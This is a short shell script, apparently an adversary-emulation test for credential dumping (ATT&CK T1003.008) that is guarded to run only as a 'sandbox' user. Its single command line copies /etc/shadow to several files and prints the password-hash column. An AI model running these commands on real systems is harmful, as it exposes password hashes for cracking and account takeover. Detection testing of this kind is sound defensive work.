#!/bin/sh
# technique: T1003.008
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

cp /etc/shadow /tmp/s; cat /etc/shadow > s2; awk -F: '{print $2}' /etc/shadow; dd if=/etc/shadow of=d
